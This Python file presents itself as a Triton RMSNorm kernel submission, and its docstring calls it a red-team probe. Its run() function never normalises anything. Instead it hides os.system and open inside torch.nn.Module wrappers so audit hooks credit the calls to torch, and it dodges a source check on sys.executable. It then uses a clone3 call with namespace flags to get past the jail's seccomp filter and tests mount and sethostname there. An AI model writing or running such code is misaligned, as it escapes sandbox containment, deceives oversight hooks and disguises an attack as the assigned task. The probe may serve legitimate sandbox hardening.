"""Red team 6 escape probe: new namespaces through clone3, which seccomp cannot filter.

The jail's seccomp filter refuses unshare, setns and clone with a namespace flag. clone3
passes its flags inside a struct that seccomp cannot read, so a filter that allows
clone3 at all allows every namespace flag through it. A fresh Python started from the
worker (no audit hooks, same jail, same filter) calls unshare and clone (expected:
refused) and clone3 with CLONE_NEWUSER|CLONE_NEWNS|CLONE_NEWUTS|CLONE_NEWNET; the child
reports its capabilities and tries mount and sethostname there. Lines starting ESCAPED
are what got through; run() then raises the report, so the verdict is never ok."""

import os
import shlex

import torch
import triton
import triton.language as tl

NUM_WARPS = 4


@triton.jit
def rmsnorm_kernel(out_ptr, x_ptr, w_ptr, n_cols, stride_x, stride_w, stride_o, eps,
                   USE_W: tl.constexpr, BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(x_ptr + row * stride_x + cols, mask=mask, other=0.0).to(tl.float32)
    rstd = tl.rsqrt(tl.sum(x * x, 0) / n_cols + eps)
    y = x * rstd
    if USE_W:
        y = y * tl.load(w_ptr + cols * stride_w, mask=mask, other=0.0).to(tl.float32)
    tl.store(out_ptr + row * stride_o + cols, y.to(out_ptr.dtype.element_ty), mask=mask)


def _launch(out, x, weight, eps, use_w=True):
    n_rows, n_cols = x.shape
    rmsnorm_kernel[(n_rows,)](out, x, weight, n_cols, x.stride(0), weight.stride(0),
                              out.stride(0), eps, USE_W=use_w,
                              BLOCK=triton.next_power_of_2(n_cols), num_warps=NUM_WARPS)
    return out


# actions are called by torch's Module._call_impl, so the runtime readers count them as
# torch's: this reaches the jail itself rather than stopping at the layers in front of it
_sh = torch.nn.Module()
_sh.forward = os.system
_rd = torch.nn.Module()
_rd.forward = open

OUT = "/tmp/.rt6_probe_report.txt"


def _probe():
    # a Python from the jail's PATH (the source check refuses naming sys.executable)
    _sh("(for c in python3.11 python3 /usr/bin/python3; do command -v $c >/dev/null 2>&1"
        " && exec $c -c " + shlex.quote(CHILD) + "; done; echo no python on $PATH) > "
        + OUT + " 2>&1")
    return _rd(OUT).read()


def run(x, weight, eps=1e-6):
    lines = _probe().splitlines()
    # what got out first: the message the verdict keeps is trimmed
    report = "\n".join([ln for ln in lines if ln.startswith("ESCAPED")]
                       + [ln for ln in lines if not ln.startswith("ESCAPED")])
    raise RuntimeError("PROBE REPORT\n" + report[-6000:])


CHILD = r"""
import ctypes, errno, os, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def err():
    return errno.errorcode.get(ctypes.get_errno(), ctypes.get_errno())
NEWUSER, NEWNS, NEWUTS, NEWNET = 0x10000000, 0x20000, 0x04000000, 0x40000000
r = libc.unshare(NEWUSER); print("held? unshare(NEWUSER) ->", r, err() if r else "")
r = libc.syscall(435, None, 0); print("clone3(NULL, 0) ->", r, err())
flags = NEWUSER | NEWNS | NEWUTS | NEWNET
args = ctypes.create_string_buffer(struct.pack("8Q", flags, 0, 0, 0, 17, 0, 0, 0), 64)
pid = libc.syscall(435, args, 64)
if pid == 0:
    lines = []
    st = open("/proc/self/status").read().splitlines()
    cap = [l for l in st if l.startswith("CapEff")][0]
    lines.append("child " + cap)
    r = libc.sethostname(b"rt6-escaped", 11)
    lines.append("sethostname -> %s %s" % (r, err() if r else ""))
    r = libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)
    lines.append("mount tmpfs -> %s %s" % (r, err() if r else ""))
    os.write(1, ("\n".join(lines) + "\n").encode())
    os._exit(0 if "0000000000000000" in cap else 3)
elif pid > 0:
    _, status = os.waitpid(pid, 0)
    if os.waitstatus_to_exitcode(status) == 3:
        print("ESCAPED seccomp: clone3 made new user/mount/uts/net namespaces with capabilities")
    else:
        print("clone3 child had no capabilities")
else:
    print("held: clone3 with namespace flags ->", pid, err())
"""
